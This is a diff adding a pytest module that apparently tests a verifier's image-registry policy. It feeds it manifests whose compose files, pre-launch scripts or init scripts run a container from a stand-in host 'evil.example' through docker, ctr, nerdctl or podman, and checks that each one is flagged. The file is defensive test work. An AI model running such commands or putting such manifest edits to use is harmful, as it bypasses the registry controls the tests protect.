@@ -1,0 +1,66 @@
+"""A policy that names the registries of images, and an image that a script starts."""
+
+from collections.abc import Callable
+from typing import Final
+
+import pytest
+
+from tests.attacks.audited import audit
+from tests.attacks.outcomes import assert_noticed, assert_stands, open_forgery
+from verifier.evidence.codec import JsonObject
+from verifier.lab.knobs import Knobs
+
+POLICY: Final = '[images]\nregistries = ["registry.lab.invalid"]'
+IMAGE: Final = f"evil.example/x@sha256:{'1' * 64}"
+CHECKS: Final = ("manifest.rules", "provenance.images")
+
+Edit = Callable[[JsonObject], JsonObject]
+
+
+def setting(**fields: str) -> Edit:
+    """A manifest with more fields."""
+    return lambda manifest: {**manifest, **fields}
+
+
+def bash_alone(manifest: JsonObject) -> JsonObject:
+    """A manifest that runs a script in place of a compose file."""
+    kept = {name: value for name, value in manifest.items() if name != "docker_compose_file"}
+    return {**kept, "runner": "bash", "bash_script": f"docker run {IMAGE}"}
+
+
+def foreign_service(manifest: JsonObject) -> JsonObject:
+    """A compose file with an image of a foreign registry."""
+    return {**manifest, "docker_compose_file": f"services:\n  web:\n    image: {IMAGE}\n"}
+
+
+def test_images_of_the_named_registry_are_accepted() -> None:
+    assert_stands(audit(Knobs()).under(POLICY), *CHECKS)
+
+
+@pytest.mark.parametrize(
+    "edit",
+    [
+        pytest.param(foreign_service, id="service"),
+        *(
+            pytest.param(setting(pre_launch_script=script), marks=open_forgery, id=script[:12])
+            for script in (
+                f"docker run -d {IMAGE}",
+                f"ctr -n moby run {IMAGE} x",
+                f"nerdctl run -d {IMAGE}",
+                f"podman run -d {IMAGE}",
+            )
+        ),
+        pytest.param(
+            setting(init_script=f"docker run -d {IMAGE}"), marks=open_forgery, id="init script"
+        ),
+        pytest.param(setting(init_script="docker run -d evil.example/x"), id="init script, a tag"),
+        pytest.param(setting(runner="bash", bash_script=f"docker run {IMAGE}"), id="decoy"),
+        pytest.param(bash_alone, id="script alone"),
+        pytest.param(setting(runner="podman"), id="unknown runner"),
+    ],
+)
+def test_an_image_of_another_registry(edit: Edit) -> None:
+    """Whoever accepts warnings, as every real app needs, accepts none of these."""
+    audited = audit(Knobs(edit_manifest=edit)).under(f'accept = ["affirming", "warning"]\n{POLICY}')
+    assert_noticed(audited, *CHECKS, refusing=True)
+    assert not audited.report.accepted
